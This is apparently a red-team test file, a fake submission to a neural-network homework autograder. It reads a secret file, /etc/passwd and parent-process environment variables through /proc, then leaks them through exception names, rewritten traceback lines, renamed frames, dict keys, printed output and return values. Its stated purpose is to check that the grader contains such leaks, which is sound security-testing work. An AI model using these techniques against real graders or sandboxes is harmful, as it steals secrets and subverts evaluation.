# RED-TEAM ATTACK (issue 9): carry what was read out through every field of the feedback.
# Route: the loot (a secret file, the grader's environment through /proc, /etc/passwd) leaves as an
#   error raised while loading (a class body runs then), an exception's type name, a traceback's
#   source line (linecache rewritten), a frame's function name (code.replace), the keys of a
#   returned dict, printed output, a returned string, and a plain message.
# Contained when: no loot reaches the report, and every one of these functions scores 0.
# attacked: initialize_parameters, initialize_parameters_deep, linear_forward, linear_activation_forward, compute_cost, linear_backward, L_model_forward
# run: batch
import linecache
import os
import sys


def _loot():
    found = []
    for path in ("__SECRET_FILE__", "/etc/passwd"):
        try:
            with open(path) as handle:
                found.append(handle.readline().strip())
        except Exception:
            pass
    pid = os.getppid()
    for _ in range(16):
        try:
            with open("/proc/%d/environ" % pid, "rb") as handle:
                found += [item.decode() for item in handle.read().split(b"\0") if item.startswith(b"REDTEAM_")]
            with open("/proc/%d/status" % pid) as status:
                pid = int([line for line in status if line.startswith("PPid:")][0].split()[1])
        except Exception:
            break
    return " ".join(found) or "nothing"


class _AtLoad:
    loot = int(_loot())  # a class body runs while the submission loads: the ValueError quotes the loot


def initialize_parameters(n_x, n_h, n_y):
    raise type(_loot().replace(" ", "_"), (Exception,), {})("see the type")


def initialize_parameters_deep(layer_dims):
    return {_loot(): 0}


def linear_forward(A, W, b):
    here = sys._getframe().f_code.co_filename
    linecache.cache[here] = (0, None, [_loot() + "\n"] * 10000, here)
    raise RuntimeError("see the source line")


def linear_activation_forward(A_prev, W, b, activation):
    def carrier():
        raise RuntimeError("see the function name")
    carrier.__code__ = carrier.__code__.replace(co_name=_loot().replace(" ", "_")[:200])
    carrier()


def compute_cost(AL, Y):
    print(_loot())
    raise RuntimeError("see the output")


def linear_backward(dZ, cache):
    return _loot(), _loot(), _loot()


def L_model_forward(X, parameters):
    raise RuntimeError(_loot())
